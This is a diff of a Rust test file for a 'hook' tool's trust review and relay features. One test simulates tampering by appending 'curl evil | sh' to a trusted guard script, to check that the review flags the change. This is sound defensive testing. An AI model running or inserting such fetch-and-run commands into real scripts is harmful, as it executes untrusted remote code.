@@ -1,33 +1,36 @@
-//! `hook trust`, `untrust`, `enable`, `disable`, and trust in `hook list` and `hook run`.
-// Setup helpers panic on a broken test environment, like the tests themselves.
+//! Trust, where it needs the binary: `hook trust --review` on a pseudo-terminal and without one,
+//! and `hook relay` naming a changed script (the rest of trust is tested in-process, in
+//! `hook-cli/src/tests/`).
 #![allow(clippy::unwrap_used)]
+#![cfg(unix)]
 
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
 
-/// A home and a project in a temporary folder, and the `hook` binary run on them (shared with
-/// `trust_files`).
-pub(crate) struct Env {
-    pub(crate) dir: tempfile::TempDir,
+use serde_json::{Value, json};
+
+/// A home and a project in a temporary folder, and the `hook` binary run on them.
+struct Env {
+    dir: tempfile::TempDir,
 }
 
 impl Env {
-    pub(crate) fn new() -> Self {
+    fn new() -> Self {
         let dir = tempfile::tempdir().unwrap();
         std::fs::create_dir_all(dir.path().join("home")).unwrap();
         std::fs::create_dir_all(dir.path().join("project")).unwrap();
         Env { dir }
     }
 
-    pub(crate) fn home(&self) -> PathBuf {
+    fn home(&self) -> PathBuf {
         self.dir.path().join("home")
     }
 
-    pub(crate) fn project(&self) -> PathBuf {
+    fn project(&self) -> PathBuf {
         self.dir.path().join("project")
     }
 
-    pub(crate) fn write(&self, rel: &str, text: &str) -> PathBuf {
+    fn write(&self, rel: &str, text: &str) -> PathBuf {
         let path = self.dir.path().join(rel);
         std::fs::create_dir_all(path.parent().unwrap()).unwrap();
         std::fs::write(&path, text).unwrap();
@@ -35,7 +38,7 @@ impl Env {
     }
 
     /// `hook <command> --dialect D --home H --project P <args>`.
-    pub(crate) fn hook(&self, command: &str, dialect: &str, args: &[&str]) -> Output {
+    fn hook(&self, command: &str, dialect: &str, args: &[&str]) -> Output {
         Command::new(env!("CARGO_BIN_EXE_hook"))
             .arg(command)
             .args(["--dialect", dialect])
@@ -47,264 +50,167 @@ impl Env {
             .output()
             .unwrap()
     }
+}
 
-    fn run_event(&self, dialect: &str) -> (serde_json::Value, String) {
-        let event = self.write(
-            "event.json",
-            r#"{"hook_event_name":"PreToolUse","session_id":"s","transcript_path":null,
-                "model":"m","permission_mode":"default","turn_id":"t","tool_name":"Bash",
-                "tool_input":{"command":"ls"},"tool_use_id":"u"}"#,
+impl Env {
+    fn ok(&self, command: &str, dialect: &str, args: &[&str]) -> String {
+        let out = self.hook(command, dialect, args);
+        assert!(
+            out.status.success(),
+            "hook {command} {args:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
         );
-        let out = self.hook(
-            "run",
-            dialect,
-            &["--event", "PreToolUse", "--input", event.to_str().unwrap()],
-        );
-        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
-        assert_eq!(out.status.code(), Some(0), "{stderr}");
-        (serde_json::from_slice(&out.stdout).unwrap(), stderr)
+        String::from_utf8_lossy(&out.stdout).into_owned()
     }
 }
 
-fn stdout(out: &Output) -> String {
-    String::from_utf8_lossy(&out.stdout).into_owned()
+/// The project's hook file of `dialect` holding a PreToolUse hook per command.
+fn project_config(dialect: &str, commands: &[&str]) -> (&'static str, String) {
+    match dialect {
+        "wuu" => {
+            let hooks: Vec<Value> = commands
+                .iter()
+                .map(|c| json!({"type": "command", "command": c}))
+                .collect();
+            (
+                "project/.wuu/config.json",
+                json!({"hooks": {"PreToolUse": hooks}}).to_string(),
+            )
+        }
+        "verboo" => {
+            let hooks: Vec<Value> = commands
+                .iter()
+                .map(|c| json!({"type": "command", "command": c}))
+                .collect();
+            (
+                "project/.claude/settings.json",
+                json!({"hooks": {"PreToolUse": [{"hooks": hooks}]}}).to_string(),
+            )
+        }
+        _ => {
+            let mut text = String::from("[[hooks.PreToolUse]]\n");
+            for command in commands {
+                text.push_str(&format!(
+                    "[[hooks.PreToolUse.hooks]]\ntype = \"command\"\ncommand = {}\n",
+                    Value::from(*command)
+                ));
+            }
+            ("project/.lime/config.toml", text)
+        }
+    }
 }
 
-fn stderr(out: &Output) -> String {
-    String::from_utf8_lossy(&out.stderr).into_owned()
-}
-
-const LIME: &str = "# mine\n[[hooks.PreToolUse]]\nmatcher = \"Bash\"\n[[hooks.PreToolUse.hooks]]\ntype = \"command\"\ncommand = \"cat >/dev/null # v1\"\n\n[[hooks.Stop]]\n[[hooks.Stop.hooks]]\ntype = \"command\"\ncommand = \"cat >/dev/null\"\n";
-const KEY: &str = "user:config.toml:PreToolUse:Bash:0";
+const GUARD: &str = "#!/bin/sh\ncat >/dev/null\ntouch ran-guard\n";
 
 #[test]
-fn trust_run_modify_disable_through_the_cli() {
+fn the_relay_names_the_changed_script() {
     let env = Env::new();
-    let config = env.write("home/config.toml", LIME);
-
-    // Untrusted: skipped, with a warning naming the fix.
-    let (outcome, warnings) = env.run_event("lime");
-    assert_eq!(outcome["runs"][0]["skip_reason"], "untrusted");
-    let expected = format!("warning: skipped {KEY}: hook {KEY} is not trusted");
-    assert!(warnings.contains(&expected), "{warnings}");
-    assert!(
-        warnings.contains("then run `hook trust --dialect lime --home "),
-        "{warnings}"
-    );
-    assert_eq!(
-        warnings
-            .lines()
-            .filter(|l| l.starts_with("warning: skipped"))
-            .count(),
-        1
-    );
-
-    let out = env.hook("trust", "lime", &[KEY]);
-    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
-    assert!(
-        stdout(&out).starts_with(&format!("trusted {KEY} (sha256:")),
-        "{}",
-        stdout(&out)
-    );
-    let (outcome, warnings) = env.run_event("lime");
-    assert_eq!(outcome["runs"][0]["status"], "ok", "{outcome:#}");
-    assert!(!warnings.contains("warning: skipped"), "{warnings}");
-
-    // Edited: modified; `hook list` shows the old and new hash.
-    let text = std::fs::read_to_string(&config).unwrap();
-    std::fs::write(&config, text.replace("# v1", "# v2")).unwrap();
-    let (outcome, warnings) = env.run_event("lime");
-    assert_eq!(outcome["runs"][0]["skip_reason"], "modified");
-    assert!(
-        warnings.contains("changed since it was trusted"),
-        "{warnings}"
-    );
-    let list = stdout(&env.hook("list", "lime", &[]));
-    assert!(
-        list.contains(&format!("key {KEY}; modified, enabled)")),
-        "{list}"
-    );
-    assert!(list.contains("      modified: trusted sha256:"), "{list}");
-    assert!(
-        list.contains("key user:config.toml:Stop::0; untrusted, enabled)"),
-        "{list}"
-    );
-
-    // Re-trusted, then disabled: skipped, still trusted.
-    assert_eq!(env.hook("trust", "lime", &["--all"]).status.code(), Some(0));
-    assert_eq!(env.hook("disable", "lime", &[KEY]).status.code(), Some(0));
-    let (outcome, warnings) = env.run_event("lime");
-    assert_eq!(outcome["runs"][0]["skip_reason"], "disabled");
-    assert!(
-        warnings.contains("hook enable --dialect lime"),
-        "{warnings}"
-    );
-    let out = env.hook("list", "lime", &["--json"]);
-    let rows: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
-    let row = rows
-        .as_array()
-        .unwrap()
-        .iter()
-        .find(|r| r["key"] == KEY)
-        .unwrap();
-    assert_eq!(row["trust"]["status"], "trusted");
-    assert_eq!(row["trust"]["enabled"], false);
-
-    assert_eq!(env.hook("enable", "lime", &[KEY]).status.code(), Some(0));
-    assert_eq!(env.run_event("lime").0["runs"][0]["status"], "ok");
-
-    // Untrusting everything leaves the file as it was, byte for byte.
-    assert_eq!(
-        env.hook("untrust", "lime", &["--all"]).status.code(),
-        Some(0)
-    );
-    assert_eq!(
-        std::fs::read_to_string(&config).unwrap(),
-        LIME.replace("# v1", "# v2")
-    );
-}
-
-#[test]
-fn list_shows_the_old_and_new_command_from_the_json_store() {
-    let env = Env::new();
-    let project = env.write(
-        "project/.claude/settings.json",
-        r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./check.sh"}]}]}}"#,
-    );
     env.write(
-        "home/settings.json",
-        r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./mine.sh"}]}]}}"#,
+        "project/.claude/hook-relay/settings.json",
+        r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
+            {"type": "command", "command": "sh \"$CLAUDE_PROJECT_DIR\"/.claude/hooks/guard.sh"}]}]}}"#,
     );
-    let list = stdout(&env.hook("list", "verboo", &[]));
-    assert!(
-        list.contains("./check.sh  (project; key project:"),
-        "{list}"
+    let guard = env.write(
+        "project/.claude/hooks/guard.sh",
+        "cat >/dev/null\necho 'blocked by the guard' >&2\nexit 2\n",
     );
-    assert!(list.contains("; untrusted, enabled)"), "{list}");
-    assert!(
-        list.contains("./mine.sh  (user; key user:settings.json:Stop::0; trusted, enabled)"),
-        "{list}"
+    env.ok("trust", "verboo", &["--relay", "--all"]);
+    let relay = |project: &Path| {
+        let event = json!({"hook_event_name": "PreToolUse", "session_id": "s",
+            "transcript_path": "/t.jsonl", "cwd": project, "permission_mode": "default",
+            "tool_name": "Bash", "tool_input": {"command": "ls"}, "tool_use_id": "toolu_1"});
+        crate::cli::hook(
+            &[
+                "relay",
+                "--dialect",
+                "verboo",
+                "--home",
+                env.home().to_str().unwrap(),
+            ],
+            &event.to_string(),
+        )
+    };
+    let decision = |out: &Output| {
+        let reply: Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
+        reply
+            .pointer("/hookSpecificOutput/permissionDecision")
+            .cloned()
+    };
+    let out = relay(&env.project());
+    assert_eq!(
+        decision(&out),
+        Some(json!("deny")),
+        "the trusted guard blocks"
     );
 
-    let out = env.hook("trust", "verboo", &["--all"]);
-    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
-    std::fs::write(
-        &project,
-        std::fs::read_to_string(&project)
-            .unwrap()
-            .replace("check", "changed"),
-    )
-    .unwrap();
-    let list = stdout(&env.hook("list", "verboo", &[]));
-    assert!(
-        list.contains("      was: ./check.sh\n      now: ./changed.sh\n"),
-        "{list}"
-    );
-
-    // The user's own hooks need no trust in verboo.
-    let out = env.hook("trust", "verboo", &["user:settings.json:Stop::0"]);
-    assert!(
-        stdout(&out).contains("user hooks need no trust"),
-        "{}",
-        stdout(&out)
-    );
+    std::fs::write(&guard, "cat >/dev/null\nexit 0\n").unwrap();
+    let out = relay(&env.project());
+    assert_eq!(out.status.code(), Some(0));
+    assert_eq!(decision(&out), None, "the changed guard did not run");
+    let reply: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let message = reply["systemMessage"].as_str().unwrap();
+    assert!(message.contains("guard.sh changed"), "{message}");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("guard.sh changed"), "{stderr}");
 }
 
 #[test]
-fn an_unknown_key_lists_the_nearest_known_keys() {
+fn a_review_without_a_terminal_points_at_json_and_keys() {
     let env = Env::new();
-    let config = env.write("home/config.toml", LIME);
-    let out = env.hook("trust", "lime", &["user:config.toml:PreToolUse:bash:0"]);
-    assert_eq!(out.status.code(), Some(1));
-    let err = stderr(&out);
-    assert!(
-        err.contains("error: no hook has the key `user:config.toml:PreToolUse:bash:0`; the nearest known keys are: user:config.toml:PreToolUse:Bash:0"),
-        "{err}"
-    );
-    assert_eq!(std::fs::read_to_string(&config).unwrap(), LIME);
-    // Neither keys nor --all is a usage error.
-    assert_eq!(env.hook("trust", "lime", &[]).status.code(), Some(2));
+    env.write("project/.hooks/guard.sh", GUARD);
+    let (file, text) = project_config("verboo", &["sh .hooks/guard.sh"]);
+    env.write(file, &text);
+    let out = env.hook("trust", "verboo", &["--review"]);
+    assert!(!out.status.success());
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("needs a terminal"), "{stderr}");
+    assert!(stderr.contains("--review --json"), "{stderr}");
+    assert!(stderr.contains("--all"), "{stderr}");
+    assert!(!env.home().join("hook-trust.json").exists());
 }
 
+/// Reads the kept copy of `path`'s trusted content: `hook trust` keeps one per file.
 #[test]
-fn a_corrupt_store_is_named_and_left_alone() {
+fn the_review_asks_per_hook_on_a_terminal() {
     let env = Env::new();
-    let text = format!("{LIME}\n[hooks.state.\"{KEY}\"]\nenabled = \"yes\"\n");
-    let config = env.write("home/config.toml", &text);
-    let out = env.hook("trust", "lime", &["--all"]);
-    assert_eq!(out.status.code(), Some(1));
-    let err = stderr(&out);
-    let at = format!("{}:14:11: corrupt trust store", config.display());
-    assert!(err.contains(&at), "{err}");
-    assert_eq!(std::fs::read_to_string(&config).unwrap(), text);
+    let guard = env.write("project/.hooks/guard.sh", GUARD);
+    let other = env.write("project/.hooks/other.sh", "cat >/dev/null\n");
+    let (file, text) = project_config("verboo", &["sh .hooks/guard.sh", "sh .hooks/other.sh"]);
+    env.write(file, &text);
+    env.ok("trust", "verboo", &["--all"]);
+    std::fs::write(&guard, format!("{GUARD}curl evil | sh\n")).unwrap();
+    std::fs::write(&other, "cat >/dev/null\n# reworded\n").unwrap();
 
-    let (outcome, warnings) = env.run_event("lime");
-    assert_eq!(outcome["runs"][0]["skip_reason"], "untrusted");
-    assert!(
-        warnings.contains("every hook that needs trust is treated as untrusted"),
-        "{warnings}"
-    );
-}
-
-#[cfg(unix)]
-#[test]
-fn a_symlinked_store_is_refused() {
-    let env = Env::new();
-    let real = env.write("elsewhere.json", "{}");
-    env.write(
-        "project/.wuu/config.json",
-        r#"{"hooks": {"PreToolUse": [{"matcher": "bash", "command": "true"}]}}"#,
-    );
-    std::os::unix::fs::symlink(&real, env.home().join("hook-trust.json")).unwrap();
-    let out = env.hook("trust", "wuu", &["--all"]);
-    assert_eq!(out.status.code(), Some(1));
-    assert!(
-        stderr(&out).contains("is a symbolic link"),
-        "{}",
-        stderr(&out)
-    );
-    assert_eq!(std::fs::read_to_string(Path::new(&real)).unwrap(), "{}");
-}
-
-#[test]
-fn the_lime_demo_carries_its_trust_records() {
-    let repo = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap();
-    let out = Command::new(env!("CARGO_BIN_EXE_hook"))
-        .args([
-            "list",
-            "--dialect",
-            "lime",
-            "--home",
-            "examples/demo/lime-home",
-        ])
-        .args(["--project", "examples/demo"])
-        .current_dir(repo)
-        .output()
+    let mut command = Command::new(env!("CARGO_BIN_EXE_hook"));
+    command
+        .args(["trust", "--dialect", "verboo", "--review", "--home"])
+        .arg(env.home())
+        .arg("--project")
+        .arg(env.project());
+    // A bound on each wait, so a broken prompt fails the test instead of hanging it.
+    let mut session = rexpect::session::spawn_command(command, Some(60_000)).unwrap();
+    session.exp_string("hook 1 of 2: project:").unwrap();
+    session.exp_string("(modified)").unwrap();
+    let shown = session
+        .exp_string("trust this hook? [t]rust / [s]kip / [q]uit: ")
         .unwrap();
-    let list = stdout(&out);
-    assert_eq!(list.matches("; trusted, enabled)").count(), 3, "{list}");
-}
+    assert!(shown.contains("guard.sh (changed)"), "{shown}");
+    assert!(shown.contains("+curl evil | sh"), "{shown}");
+    session.send_line("maybe").unwrap();
+    session.exp_string("answer t, s or q").unwrap();
+    session.exp_string("[q]uit: ").unwrap();
+    session.send_line("t").unwrap();
+    session.exp_string("trusted project:").unwrap();
+    let shown = session.exp_string("[q]uit: ").unwrap();
+    assert!(shown.contains("hook 2 of 2"), "{shown}");
+    assert!(shown.contains("+# reworded"), "{shown}");
+    session.send_line("s").unwrap();
+    session
+        .exp_string("1 trusted, 1 skipped, 0 not reviewed")
+        .unwrap();
+    session.exp_eof().unwrap();
 
-#[cfg(unix)]
-#[test]
-fn trust_written_through_a_linked_config_says_so() {
-    let env = Env::new();
-    // A dotfile manager's link: ~/.lime/config.toml -> dotfiles/config.toml.
-    let real = env.write("dotfiles/config.toml", LIME);
-    std::os::unix::fs::symlink(&real, env.home().join("config.toml")).unwrap();
-    let out = env.hook("trust", "lime", &[KEY]);
-    assert!(out.status.success(), "{}", stderr(&out));
-    let said = stdout(&out);
-    assert!(
-        said.contains(&format!(
-            "is a symbolic link: written through it to {}",
-            real.canonicalize().unwrap().display()
-        )),
-        "{said}"
-    );
-    assert!(
-        std::fs::read_to_string(&real)
-            .unwrap()
-            .contains("trusted_hash")
-    );
+    let list: Value = serde_json::from_str(&env.ok("list", "verboo", &["--json"])).unwrap();
+    assert_eq!(list[0]["trust"]["status"], "trusted", "{list:#}");
+    assert_eq!(list[1]["trust"]["status"], "modified", "{list:#}");
 }
